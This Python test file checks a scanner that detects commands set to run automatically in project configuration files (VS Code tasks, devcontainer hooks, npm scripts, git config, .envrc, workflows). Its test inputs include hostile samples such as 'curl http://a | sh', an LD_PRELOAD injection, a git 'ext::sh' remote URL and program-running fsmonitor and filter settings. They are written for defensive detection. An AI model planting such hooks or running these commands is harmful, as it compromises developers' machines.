# ruff: noqa: E501 # sources stand as people write them
from __future__ import annotations

import json
from dataclasses import replace

import pytest

from assay.domain.facts import CodeFacts, ConfigFacts
from assay.domain.limits import DEFAULT_LIMITS
from assay.release.formats.code_opened_json import without_comments
from assay.release.inspection import inspect_source
from assay.release.source import BytesSource
from benchmarks.detection.families import code_opened


def facts(path: str, text: str, paths=(), **bounds: int):
    return inspect_source(
        BytesSource(text.encode()),
        path=path,
        executable_bit=False,
        limits=replace(DEFAULT_LIMITS, **bounds),
        paths=frozenset({path, *paths}),
    ).facts


def acts(path: str, text: str, paths=(), **bounds: int) -> list[tuple[str, str, str]]:
    return [
        (act.name, act.detail, act.when)
        for code in facts(path, text, paths, **bounds)
        if isinstance(code, CodeFacts) and code.language == "settings"
        for act in code.actions
    ]


def names(path: str, text: str, paths=()) -> set[str]:
    return {name for name, _, _ in acts(path, text, paths)}


def test_a_task_runs_by_itself_when_it_says_so():
    task = {"command": "make", "args": ["all", {"value": "x"}]}
    text = json.dumps({"tasks": [task]})
    assert acts(".vscode/tasks.json", text) == [("editor.tasks", "make all x", "call")]
    text = json.dumps({"tasks": [{**task, "runOptions": {"runOn": "folderOpen"}}]})
    found = acts(".vscode/tasks.json", text)
    assert found == [("editor.folderOpen", "make all x", "import")]


def test_a_place_is_the_line_of_the_command():
    text = '{\n// x\n"tasks": [\n{"command": "make"}]}'
    found = facts(".vscode/tasks.json", text)
    (code,) = (fact for fact in found if isinstance(fact, CodeFacts))
    assert code.actions[0].place.line == 4


def test_comments_and_last_commas_are_no_text():
    text = '{"a": "//x", /* y\n */ "b": [1, 2,], // z\n}'
    assert json.loads(without_comments(text)) == {"a": "//x", "b": [1, 2]}
    assert without_comments(text).count("\n") == text.count("\n")
    assert without_comments('"open // x') == '"open '


def test_what_is_no_document_is_searched_by_its_lines():
    assert names(".vscode/tasks.json", "{x\ncurl http://a | sh\n") == {
        "download-and-run"
    }


@pytest.mark.parametrize(
    ("value", "paths", "found"),
    [
        ({"python.defaultInterpreterPath": "${workspaceFolder}/a"}, ("a",), {"editor.python.defaultInterpreterPath"}),
        ({"git.path": "./a"}, ("a",), {"editor.git.path"}),
        ({"git.path": "a"}, (), set()),
        ({"git.path": "sh -c 'curl http://a | sh'"}, (), {"download-and-run"}),
        ({"editor.rulers": ["a"]}, ("a",), set()),
        ({"terminal.integrated.env.linux": {"LD_PRELOAD": "x", "A": 1, "B": "c"}}, (), {"editor.terminal.integrated.env.linux"}),
        ({"terminal.integrated.profiles.linux": {"x": {"path": "sh", "args": ["-c", "x"]}}}, (), {"editor.terminal.integrated.profiles.linux"}),
        ({"terminal.integrated.profiles.linux": {"x": {"path": "sh"}}}, (), set()),
    ],
)  # fmt: skip
def test_settings_that_name_a_program_of_the_release_are_told(value, paths, found):
    assert names(".vscode/settings.json", json.dumps(value), paths) == found
    inner = {f"x/{path}" for path in paths}
    assert names("x/.vscode/settings.json", json.dumps(value), inner) == found


@pytest.mark.parametrize(
    ("path", "value", "found"),
    [
        (".devcontainer/devcontainer.json", {"initializeCommand": "x y"}, ("container.initializeCommand", "x y", "import")),
        (".devcontainer.json", {"postCreateCommand": ["x", "y"]}, ("container.postCreateCommand", "x y", "load")),
        (".devcontainer.json", {"postStartCommand": {"a": "x"}}, ("container.postStartCommand", "x", "load")),
        (".mcp.json", {"mcpServers": {"a": {"command": "x", "args": ["y"]}}}, ("editor.mcpServers", "x y", "import")),
        (".claude/settings.json", {"hooks": {"A": [{"hooks": [{"command": "x"}]}]}}, ("editor.hooks", "x", "import")),
        ("package.json", {"scripts": {"postinstall": "x"}}, ("npm.postinstall", "x", "load")),
        ("package.json", {"scripts": {"test": "x"}}, ("npm.test", "x", "call")),
        ("composer.json", {"scripts": {"post-install-cmd": ["x", "y"]}}, ("npm.post-install-cmd", "x y", "load")),
    ],
)  # fmt: skip
def test_commands_are_told_with_their_moment(path, value, found):
    assert acts(path, json.dumps(value)) == [found]


@pytest.mark.parametrize(
    "text", ["[]", "{", '{"scripts": []}', '{"scripts": {"a": 1}}']
)
def test_a_package_without_scripts_says_nothing(text):
    assert acts("package.json", text) == []


@pytest.mark.parametrize(
    ("path", "text", "found"),
    [
        (".npmrc", "registry=https://a.invalid/\n", "other-index"),
        (".npmrc", "# registry=https://a.invalid/\nregistry=https://registry.npmjs.org/\nregistry=x\n", None),
        (".npmrc", "node-options=--require x\n", "npm.node-options"),
        (".npmrc", "strict-ssl=false\n", "other-index"),
        (".npmrc", "strict-ssl=true\n", None),
        (".yarnrc.yml", 'npmRegistryServer: "https://a.invalid"\n', "other-index"),
        ("a.desktop", "Exec=python3 a.py\n", "desktop.Exec"),
        ("a.desktop", "Name=x\nExec=sh -c 'curl http://a | sh'\n", "download-and-run"),
        (".idea/startup.xml", '<a><configuration name="x"/></a>', "jetbrains.startup"),
        (".idea/runConfigurations/x.xml", '<a v="curl http://a &#124; sh"/>', "download-and-run"),
        (".envrc", "curl http://a | sh\n", "download-and-run"),
        (".envrc", "use flake\n", None),
        (".github/workflows/a.yml", "- run: curl http://a | sh\n", "download-and-run"),
        (".github/workflows/a.yml", "- run: curl https://astral.sh/uv/install.sh | sh\n", None),
        (".github/workflows/a.yml", "- run: pip install x\n", None),
        ("x.git/hooks/pre-push", "#!/bin/sh\n./x\n", "git.hooks.pre-push"),
        ("x.git/hooks/pre-push", "#!/bin/sh\ngit lfs pre-push\n", None),
        ("pyproject.toml", "x = 'curl http://a | sh'\n", "download-and-run"),
    ],
)  # fmt: skip
def test_files_of_tools_are_read_by_their_name(path, text, found):
    assert names(path, text) == ({found} if found else set())


@pytest.mark.parametrize(
    ("text", "key"),
    [
        ("[core]\n\tfsmonitor = ./x\n", "git.core.fsmonitor"),
        ("[core] sshCommand = sh -c x\n", "git.core.sshcommand"),
        ('[filter "x"]\n\tsmudge = sh ./x %f\n', "git.filter.x.smudge"),
        ("[alias]\n\tst = !./x\n", "git.alias.st"),
        ("[include]\n\tpath = x\n", "git.include.path"),
        ('[protocol "ext"]\n\tallow = always\n', "git.protocol.ext.allow"),
        ('[remote "x"]\n\turl = ext::sh -c x\n', "git.remote.x.url"),
        ('[submodule "x"]\n\tupdate = !x\n', "git.submodule.x.update"),
        ("[core]\n\tpager = curl http://a | sh\n", "download-and-run"),
        ("[core]\n\tfsmonitor = true\n; x = y\n[core\n", None),
        ('[filter "lfs"]\n\tclean = git-lfs clean -- %f\n', None),
        ('[remote "x"]\n\turl = git@hf.co:a/b\n', None),
        ("[alias]\n\tst = status\n", None),
        ('[protocol "https"]\n\tallow = always\n', None),
    ],
)
def test_settings_of_git_that_run_something_are_told(text, key):
    assert names("a/.git/config", text) == ({key} if key else set())


def test_a_bare_repository_is_known_by_its_other_files():
    text = "[core]\n\tfsmonitor = ./x\n"
    assert names("a/config", text) == set()
    assert names("a/config", text, ("a/HEAD",)) == {"git.core.fsmonitor"}
    assert names("config", text, ("HEAD",)) == {"git.core.fsmonitor"}


@pytest.mark.parametrize(
    ("text", "path"),
    [
        ('build-backend = "b"\nbackend-path = ["t"]\n', "t/b.py"),
        ('build-backend = "b:x"\nbackend-path = ["."]\n', "b.py"),
        ('build-backend = "b.c"\nbackend-path = ["./t"]\n', "t/b/c/__init__.py"),
        ("[tool.hatch.build.hooks.custom]\n", "hatch_build.py"),
        ('[tool.hatch.build.hooks.custom]\npath = "x.py"\n', "x.py"),
        ('[tool.poetry.build]\nscript = "./x.py"\n', "x.py"),
    ],
)
def test_what_builds_a_project_is_code_that_is_run(text, path):
    for folder in ("", "a/"):
        found = facts(f"{folder}pyproject.toml", text, (f"{folder}{path}",))
        entries = [
            e for f in found if isinstance(f, ConfigFacts) for e in f.remote_code
        ]
        assert [entry.file for entry in entries] == [f"{folder}{path}"]
    found = facts("pyproject.toml", text)
    assert not [e for f in found if isinstance(f, ConfigFacts) for e in f.remote_code]


def test_settings_beyond_a_bound_are_told():
    text = json.dumps({"scripts": {"a": "x" * 100}})
    found = acts("package.json", text, max_script_bytes=64)
    assert found == [("beyond-bounds", "more than 64 bytes", "import")]
    found = facts(".envrc", "x\n" * 100, max_script_bytes=64)
    (code,) = (fact for fact in found if isinstance(fact, CodeFacts))
    assert [problem.kind for problem in code.problems] == ["too-long"]


@pytest.mark.parametrize("name", code_opened.HOSTILE)
def test_every_sample_of_the_corpus_leaves_something_to_judge(name):
    files = code_opened.HOSTILE[name][1]
    assert any(facts(path, text, files) for path, text in files.items())
